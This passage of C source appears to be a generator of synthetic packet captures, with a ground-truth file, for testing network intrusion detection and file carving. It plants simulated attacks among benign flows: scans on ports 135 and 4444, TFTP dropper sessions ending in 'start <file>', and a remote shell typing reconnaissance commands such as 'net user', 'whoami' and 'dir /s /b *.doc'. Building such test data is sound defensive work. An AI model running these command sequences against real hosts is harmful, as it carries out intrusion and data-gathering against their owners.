		for (uint32_t i = rnd_range(&g->r, 1, 4); i; i--) {
			f->block++;
			tftp_block(g, f);
			if ((size_t)f->block * TFTP_BLOCK > f->size)
				return false;	/* short (maybe empty) last block acked */
		}
		f->state = 5;
		return false;
	case 6:
		snprintf(line, sizeof(line), "Transfer successful: %zu bytes in 1 second, %zu bytes/s"
			 "\r\n\r\nC:\\WINDOWS\\system32>", f->size, f->size);
		shell_line(g, f, 1, line);
		return false;
	case 7:
		snprintf(line, sizeof(line), "start %s\n", name);
		shell_line(g, f, 0, line);
		return false;
	case 8:
		snprintf(line, sizeof(line), "%s\n", name);
		shell_line(g, f, 0, line);
		return false;
	default:
		tcp_close(g, &f->t, 0);
		return true;
	}
}

static bool step_flow(struct gen *g, struct flow *f)
{
	g->cur = f->type;
	switch (f->type) {
	case F_HTTP:
	case F_TLS:
	case F_SMB:
		return step_rr(g, f);
	case F_DNS:
		return step_dns(g, f);
	case F_FRAG:
		return step_frag(g, f);
	case F_SCAN135:
	case F_SCAN4444:
		return step_scan(g, f);
	case F_DROPPER:
		return step_dropper(g, f);
	default:
		return true;
	}
}

/* ------------------------------------------------------------- the mix */

static enum ftype pick_type(struct rng *r)
{
	/* per new flow; bytes end up dominated by the long TCP transfers */
	static const struct { enum ftype t; unsigned w; } mix[] = {
		{ F_HTTP, 3100 }, { F_TLS, 2600 }, { F_SMB, 100 }, { F_DNS, 3800 },
		{ F_FRAG, 250 }, { F_SCAN135, 130 }, { F_SCAN4444, 20 },
	};
	uint32_t x = rnd_below(r, 10000);

	for (size_t i = 0; i < sizeof(mix) / sizeof(mix[0]); i++) {
		if (x < mix[i].w)
			return mix[i].t;
		x -= mix[i].w;
	}
	return F_DNS;
}

static void gen_mix(struct gen *g, uint64_t target, unsigned pool)
{
	struct flow *fl = calloc(pool, sizeof(*fl));
	uint64_t next_dropper = 10u << 20;
	size_t live;

	if (!fl) {
		fprintf(stderr, "gen: out of memory\n");
		exit(1);
	}
	for (unsigned i = 0; i < pool; i++)
		new_flow(g, &fl[i], pick_type(&g->r));
	while (g->bytes < target) {
		struct flow *f = &fl[rnd_below(&g->r, pool)];

		if (!step_flow(g, f))
			continue;
		if (g->bytes >= next_dropper && g->bytes + (12u << 20) < target) {
			g->cur = F_DROPPER;
			g->tally[F_DROPPER].flows++;
			new_dropper(g, f, inside_ip(&g->r));
			next_dropper = g->bytes + rnd_range(&g->r, 12u << 20, 28u << 20);
		} else {
			new_flow(g, f, pick_type(&g->r));
		}
	}
	/* the capture ends here for everyone but the planted sessions */
	live = 0;
	for (unsigned i = 0; i < pool; i++)
		if (fl[i].must_finish)
			fl[live++] = fl[i];
	while (live) {
		size_t i = rnd_below(&g->r, (uint32_t)live);

		if (step_flow(g, &fl[i]))
			fl[i] = fl[--live];
	}
	free(fl);
}

/* ----------------------------------------------------- the scaling mode */

/*
 * N shell sessions on 4444, all open at once: every handshake first, then
 * their typing (a few bytes per segment, the server ACKing now and then)
 * shuffled over the whole file, then every close; K planted droppers run
 * in the middle. The packet total stays near P whatever N.
 */
struct sflow {
	uint32_t seq[2];
	uint32_t pos;		/* offset in the typed script */
	uint16_t cport;
	uint16_t left;		/* data segments still to send */
};

static const char script[] =
	"dir\r\ncd \\\r\nipconfig /all\r\nnet user\r\necho hello world\r\ntype boot.ini\r\n"
	"whoami\r\nnetstat -an\r\nver\r\nnet view\r\ncd C:\\Documents and Settings\r\n"
	"dir /s /b *.doc\r\nsysteminfo\r\ntasklist\r\nhostname\r\nroute print\r\n";

static void sflow_tcp(const struct sflow *s, uint32_t i, struct tcp *t)
{
	memset(t, 0, sizeof(*t));
	t->h[0] = mkhost(10u << 24 | (i + 1), 128);
	t->h[1] = mkhost(172u << 24 | 16u << 16 | (uint32_t)(mix64(i) % 4000 + 1), 128);
	t->port[0] = s->cport;
	t->port[1] = 4444;
	t->nxt[0] = s->seq[0];
	t->nxt[1] = s->seq[1];
	t->ipid[0] = (uint16_t)(s->pos * 7 + i);
	t->ipid[1] = (uint16_t)(s->pos * 3);
	t->win[0] = 64240;
	t->win[1] = 65535;
}

static void sflow_save(struct sflow *s, const struct tcp *t)
{
	s->seq[0] = t->nxt[0];
	s->seq[1] = t->nxt[1];
}

static void shuffle(struct rng *r, uint32_t *a, uint32_t n)
{
	for (uint32_t i = n; i > 1; i--) {
		uint32_t j = rnd_below(r, i), x = a[i - 1];

		a[i - 1] = a[j];
		a[j] = x;
	}
}

static void gen_flows(struct gen *g, uint32_t n, uint64_t packets, unsigned ndrop)
{
	struct sflow *s = calloc(n, sizeof(*s));
	uint32_t *order = malloc((size_t)n * sizeof(*order));
	struct flow *drop = calloc(ndrop ? ndrop : 1, sizeof(*drop));
	uint64_t *drop_at = calloc(ndrop ? ndrop : 1, sizeof(*drop_at));
	uint64_t per = packets / n, data = per > 6 ? (per - 5) * 4 / 5 : 1, total = 0, picks = 0;
	uint32_t active = n, ndone = 0, nlive = 0, *live;
	struct tcp t;

	if (!s || !order || !drop || !drop_at || data > 60000) {
		fprintf(stderr, "gen: out of memory (or too many packets per flow)\n");
		exit(1);
	}
	g->cur = F_SHELL;
	g->tally[F_SHELL].flows = n;
	for (uint32_t i = 0; i < n; i++) {
		s[i].seq[0] = (uint32_t)rnd(&g->r);
		s[i].seq[1] = (uint32_t)rnd(&g->r);
		s[i].cport = (uint16_t)rnd_range(&g->r, 1025, 65000);
		s[i].pos = rnd_below(&g->r, sizeof(script) - 1);
		s[i].left = (uint16_t)data;
		total += data;
		order[i] = i;
	}
	shuffle(&g->r, order, n);
	for (uint32_t j = 0; j < n; j++) {
		uint32_t i = order[j];

		sflow_tcp(&s[i], i, &t);
		tcp_send(g, &t, 0, TH_SYN, NULL, 0);
		tcp_send(g, &t, 1, TH_SYN | TH_ACK, NULL, 0);
		tcp_send(g, &t, 0, TH_ACK, NULL, 0);
		sflow_save(&s[i], &t);
	}
	for (unsigned k = 0; k < ndrop; k++) {
		new_dropper(g, &drop[k], 192u << 24 | 168u << 16 | rnd_range(&g->r, 1, 0xfffe));
		drop_at[k] = rnd_below(&g->r, (uint32_t)(total * 7 / 10 + 1));
	}
	live = order;	/* reused: indices of flows with data left */
	for (uint32_t i = 0; i < n; i++)
		live[i] = i;
	while (active) {
		uint32_t j = rnd_below(&g->r, active), i = live[j];
		char seg[4];
		uint32_t len = rnd_range(&g->r, 1, 3);

		for (uint32_t b = 0; b < len; b++)
			seg[b] = script[(s[i].pos + b) % (sizeof(script) - 1)];
		s[i].pos = (s[i].pos + len) % (sizeof(script) - 1);
		g->cur = F_SHELL;
		sflow_tcp(&s[i], i, &t);
		tcp_send(g, &t, 0, TH_ACK | TH_PSH, seg, len);
		if (rnd_below(&g->r, 4) == 0)
			tcp_send(g, &t, 1, TH_ACK, NULL, 0);
		sflow_save(&s[i], &t);
		if (--s[i].left == 0)
			live[j] = live[--active];
		picks++;
		/* planted sessions: started at their pick, then a round every ~200 */
		while (nlive + ndone < ndrop && drop_at[nlive + ndone] <= picks)
			nlive++;
		if (nlive && rnd_below(&g->r, 200) == 0) {
			uint32_t d = ndone + rnd_below(&g->r, nlive);

			if (step_flow(g, &drop[d])) {
				struct flow x = drop[d];
				uint64_t xa = drop_at[d];

				drop[d] = drop[ndone];
				drop_at[d] = drop_at[ndone];
				drop[ndone] = x;
				drop_at[ndone] = xa;
				ndone++;
				nlive--;
			}
		}
	}
	for (unsigned k = ndone; k < ndrop; k++)
		while (!step_flow(g, &drop[k]))
			;
	for (uint32_t i = 0; i < n; i++)
		order[i] = i;
	shuffle(&g->r, order, n);
	g->cur = F_SHELL;
	for (uint32_t j = 0; j < n; j++) {
		sflow_tcp(&s[order[j]], order[j], &t);
		tcp_close(g, &t, 0);
	}
	g->tally[F_DROPPER].flows = ndrop;
	free(s);
	free(order);
	free(drop);
	free(drop_at);
}

/*
 * A flood of one-segment sources (issue 13): each sends SYN, gets a SYN/ACK
 * and sends one segment of 8..64 random bytes to 4444 or 135, never more;
 * the planted dropper sessions advance one step every n / (40 * ndrop)
 * sources, so the flood runs between their lines.
 */
static void gen_flood(struct gen *g, uint32_t n, unsigned ndrop)
{
	struct flow *drop = calloc(ndrop ? ndrop : 1, sizeof(*drop));
	bool *done = calloc(ndrop ? ndrop : 1, sizeof(*done));
	uint32_t every = ndrop ? n / (40 * ndrop) + 1 : n + 1;
	struct tcp t;

	if (!drop || !done) {
		fprintf(stderr, "gen: out of memory\n");
		exit(1);
	}
	for (unsigned k = 0; k < ndrop; k++)
		new_dropper(g, &drop[k], 192u << 24 | 168u << 16 | rnd_range(&g->r, 1, 0xfffe));
	g->tally[F_FLOOD].flows = n;
	for (uint32_t i = 0; i < n; i++) {
		g->cur = F_FLOOD;
		tcp_init(g, &t, mkhost(outside_ip(&g->r), 113), mkhost(inside_ip(&g->r), 128),
			 i & 1 ? 4444 : 135);
		tcp_send(g, &t, 0, TH_SYN, NULL, 0);
		tcp_send(g, &t, 1, TH_SYN | TH_ACK, NULL, 0);
		tcp_send(g, &t, 0, TH_ACK | TH_PSH, NULL, rnd_range(&g->r, 8, 64));
		if (i % every == 0 && ndrop) {
			unsigned k = rnd_below(&g->r, ndrop);

			g->cur = F_DROPPER;
			if (!done[k])
				done[k] = step_flow(g, &drop[k]);
		}
	}
	for (unsigned k = 0; k < ndrop; k++)
		while (!done[k])
			done[k] = step_flow(g, &drop[k]);
	g->tally[F_DROPPER].flows = ndrop;
	free(drop);
	free(done);
}

/* ------------------------------------------------------------------ main */

static void usage(FILE *to)
{
	fprintf(to,
		"usage: gen [-m MB] [-s SEED] [-p POOL] -o OUT\n"
		"       gen --flows N [--packets P] [--droppers K] [-s SEED] -o OUT\n"
		"       gen --flood N [--droppers K] [-s SEED] -o OUT\n"
		"       gen --payload K [-s SEED]\n"
		"  -m MB         size of the traffic mix (default 1100)\n"
		"  -s SEED       PRNG seed (default 1)\n"
		"  -p POOL       concurrent flows interleaved (default 2000)\n"
		"  --flows N     scaling capture: N concurrent sessions on TCP 4444\n"
		"  --packets P   about P packets whatever N (default 8000000)\n"
		"  --droppers K  planted dropper sessions in --flows/--flood mode (default 10)\n"
		"  --flood N     N one-segment sources (SYN, SYN/ACK, one segment) to 4444/135\n"
		"  --payload K   write dropper K's file (what the carver must recover)\n"
		"Writes OUT (pcap) and OUT.truth (expected events and carved files).\n");
}

static uint64_t number(const char *s, const char *what)
{
	char *end;
	unsigned long long v;

	errno = 0;
	v = strtoull(s, &end, 10);
	if (errno || end == s || *end || v == 0) {
		fprintf(stderr, "gen: %s: not a positive number: %s\n", what, s);
		exit(2);
	}
	return v;
}

int main(int argc, char **argv)
{
	static const struct option lopts[] = {
		{ "flows", required_argument, NULL, 'F' },
		{ "packets", required_argument, NULL, 'P' },
		{ "droppers", required_argument, NULL, 'D' },
		{ "payload", required_argument, NULL, 'K' },
		{ "flood", required_argument, NULL, 'L' },
		{ "help", no_argument, NULL, 'h' },
		{ NULL, 0, NULL, 0 },
	};
	struct gen g;
	uint64_t mb = 1100, flows = 0, packets = 8000000, ndrop = 10, payload = 0, seed = 1,
		 flood = 0;
	unsigned pool = 2000;
	const char *out = NULL;
	char tpath[4096];
	struct timespec t0, t1;
	double secs;
	int c;

	while ((c = getopt_long(argc, argv, "m:s:p:o:h", lopts, NULL)) != -1) {
		switch (c) {
		case 'm': mb = number(optarg, "-m"); break;
		case 's': seed = strtoull(optarg, NULL, 10); break;
		case 'p': pool = (unsigned)number(optarg, "-p"); break;
		case 'o': out = optarg; break;
		case 'F': flows = number(optarg, "--flows"); break;
		case 'P': packets = number(optarg, "--packets"); break;
		case 'D': ndrop = strtoull(optarg, NULL, 10); break;
		case 'K': payload = number(optarg, "--payload"); break;
		case 'L': flood = number(optarg, "--flood"); break;
		case 'h': usage(stdout); return 0;
		default: usage(stderr); return 2;
		}
	}
	if (payload) {
		uint8_t b[TFTP_BLOCK];
		size_t size = payload_size(seed, (unsigned)payload);

		for (size_t off = 0; off < size; off += sizeof(b)) {
			size_t n = size - off < sizeof(b) ? size - off : sizeof(b);

			payload_fill(seed, (unsigned)payload, off, b, n);
			fwrite(b, 1, n, stdout);
		}
		return fflush(stdout) ? 1 : 0;
	}
	if (!out || optind != argc || flows > 16000000 || flood > 100000000 || pool > 1000000) {
		usage(stderr);
		return 2;
	}
	memset(&g, 0, sizeof(g));
	g.seed = seed;
	g.r.s = seed * 0x2545f4914f6cdd1dull + 7;
	g.path = out;
	g.buf = malloc(OBUF_SIZE);
	g.rpool = malloc(RPOOL_SIZE);
	snprintf(tpath, sizeof(tpath), "%s.truth", out);
	g.f = fopen(out, "wb");
	g.truth = fopen(tpath, "w");
	if (!g.buf || !g.rpool || !g.f || !g.truth) {
		fprintf(stderr, "gen: %s: %s\n", !g.f ? out : tpath, strerror(errno));
		return 1;
	}
	for (size_t i = 0; i < RPOOL_SIZE; i += 8) {
		uint64_t x = rnd(&g.r);

		memcpy(g.rpool + i, &x, 8);
	}
	clock_gettime(CLOCK_MONOTONIC, &t0);
	write_file_header(&g);
	if (flood) {
		/* about 120 s of capture time for a million sources */
		g.ps_per_byte = 120000000000000ull / (flood * 200);
		gen_flood(&g, (uint32_t)flood, (unsigned)ndrop);
	} else if (flows) {
		/* spread the file over ~2 minutes of capture time */
		g.ps_per_byte = 120000000000000ull / (packets * 100);
		gen_flows(&g, (uint32_t)flows, packets, (unsigned)ndrop);
	} else {
		g.ps_per_byte = 8000000000000ull / LINK_BPS;
		gen_mix(&g, mb << 20, pool);
	}
	flush_out(&g);
	if (fclose(g.f) != 0) {
		fprintf(stderr, "gen: %s: %s\n", out, strerror(errno));
		return 1;
	}
	fprintf(g.truth, "# seed %" PRIu64 " packets %" PRIu64 " bytes %" PRIu64
		" sessions %u capture_seconds %.1f\n", seed, g.packets, g.bytes, g.droppers,
		g.t_ps / 1e12);
	if (fclose(g.truth) != 0) {
		fprintf(stderr, "gen: %s: %s\n", tpath, strerror(errno));
		return 1;
	}
	clock_gettime(CLOCK_MONOTONIC, &t1);
	secs = (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9;
	fprintf(stderr, "gen: %s: %" PRIu64 " packets, %" PRIu64 " bytes, %.1f s of traffic, "
		"written in %.2f s (%.0f MB/s)\n", out, g.packets, g.bytes, g.t_ps / 1e12, secs,
		g.bytes / 1048576.0 / secs);
	for (int i = 0; i < F_TYPES; i++)
		if (g.tally[i].flows || g.tally[i].packets)
			fprintf(stderr, "gen:   %-13s %9" PRIu64 " flows %10" PRIu64 " packets %7.1f MB\n",
				ftype_name[i], g.tally[i].flows, g.tally[i].packets,
				g.tally[i].bytes / 1048576.0);
	fprintf(stderr, "gen: planted sessions %u (events %u, carved files %u)\n", g.droppers,
		3 * g.droppers, g.droppers);
	return 0;
}
